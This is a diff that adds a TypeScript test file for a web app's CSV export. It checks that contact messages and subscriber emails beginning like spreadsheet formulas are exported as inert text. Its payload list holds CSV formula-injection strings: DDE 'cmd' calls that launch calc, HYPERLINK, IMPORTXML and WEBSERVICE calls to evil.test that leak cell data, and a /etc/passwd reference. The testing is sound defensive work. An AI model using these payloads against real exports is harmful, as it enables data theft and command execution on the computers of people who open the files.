@@ -1,0 +1,99 @@
+import { apiPaths } from '../../data/paths.ts';
+import { csvRow } from '../../server/api/list/csv.ts';
+import { apiSite, asConsumer } from '../support/api-app.ts';
+import { aContactMessage } from '../support/builders.ts';
+import { freshDatabase, type TestDatabase } from '../support/databases.ts';
+import { parseCsv } from '../support/parse-csv.ts';
+
+let database: TestDatabase;
+beforeAll(async () => {
+  database = await freshDatabase('sqlite');
+}, 60_000);
+afterAll(() => database?.end());
+
+const payloads = [
+  '=1+1',
+  '=cmd|"/c calc"!A0',
+  "=cmd|'/c calc'!'A1'",
+  '=HYPERLINK("https://evil.test?x="&A1,"open")',
+  '=IMPORTXML("https://evil.test","//a")',
+  '=IMAGE("https://evil.test/x.png")',
+  '=WEBSERVICE("https://evil.test")',
+  '=DDE("cmd";"/c calc";"x")',
+  "='file:///etc/passwd'#$passwd.A1",
+  '+1+1',
+  '+cmd|"/c calc"!A0',
+  '-1+1',
+  '-2+3+cmd|"/c calc"!A0',
+  '@SUM(1+1)*cmd|"/c calc"!A0',
+  '@SUM(A1:A9)',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  ' =1+1',
+  '   @SUM(1)',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\ufeff=1+1',
+  '"=1+1',
+  '";=1+1;"',
+  '",=1+1,"',
+  'text;=1+1',
+  'text; =1+1',
+  'text;;=1+1',
+  'text;"=1+1"',
+  'text,=1+1',
+  "';=1+1",
+  'text\n=1+1',
+  'text\r\n=1+1',
+  'text\r=1+1',
+  'text\t=1+1',
+  'text\n\n  +1',
+  'text;\n@SUM(1)',
+  '=1+1;=2+2\n=3+3',
+  "=1+1\n'=2",
+  '=-+@1',
+];
+
+/** Cells as a reader sees them that splits at this character and knows nothing of what comes next to quotes. */
+function cellsOf(text: string, separator: string): string[] {
+  return text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
+}
+
+const runs = /^[\s"\ufeff]*[=+\-@＝＋－＠]/u;
+
+test.each(payloads)('%j is exported as text, in every column, and comes back whole', async (payload) => {
+  await database.db('contact_messages').del();
+  const { ask } = apiSite(database);
+  const isName = !/[\r\n\t]/.test(payload);
+  const sent = aContactMessage({
+    message: payload.padEnd(20, '.'),
+    ...(isName ? { firstName: payload, lastName: payload } : {}),
+  });
+  expect((await ask.post(apiPaths.contact).send(sent)).status).toBe(201);
+  const { text } = await ask.get(`${apiPaths.messages}?format=csv`).set(asConsumer);
+  const [, row = []] = parseCsv(text.slice(1));
+  expect(row).toHaveLength(9);
+  for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
+  for (const cell of row.slice(1)) {
+    for (const part of cellsOf(cell, ';')) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
+  }
+  expect(row[5]?.replaceAll("'", '')).toBe(sent.message.trim().replaceAll("'", ''));
+});
+
+test('a reader that splits at semicolons finds no formula in the lines as they are', () => {
+  for (const payload of payloads.filter((each) => !/["\u0022]/.test(each))) {
+    const line = csvRow(['plain', payload]);
+    for (const cell of cellsOf(line, ';')) expect([payload, runs.test(cell)]).toEqual([payload, false]);
+  }
+});
+
+test('addresses that begin like a formula are exported as text', async () => {
+  const { ask } = apiSite(database);
+  for (const email of ['+1@post.example', '-1@post.example'])
+    expect((await ask.post(apiPaths.subscribe).send({ email })).status).toBe(201);
+  const { text } = await ask.get(`${apiPaths.subscribers}?format=csv`).set(asConsumer);
+  const emails = parseCsv(text.slice(1)).map(([, email]) => email);
+  expect(emails).toEqual(['email', "'-1@post.example", "'+1@post.example"]);
+});
